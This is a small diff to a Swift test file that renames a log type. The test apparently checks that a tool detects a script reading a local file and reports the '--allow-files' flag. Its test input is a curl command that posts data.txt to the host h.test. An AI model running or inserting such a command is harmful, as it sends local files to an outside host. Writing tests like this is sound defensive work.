@@ -258,7 +258,7 @@ import Testing
       #expect(line.text.contains("data.txt"))
       // The way out as it is to be typed.
       #expect(line.text.hasSuffix("--allow-files \(folder.resolvingSymlinksInPath().path)"))
-      let log = ImportLog()
+      let log = ReportLog()
       let input = try ImportInput(
         file: "a.sh", path: ["a"], bytes: Data("curl -d @data.txt h.test".utf8),
         folder: InputFolder(folder, allowed: [folder]), log: log)
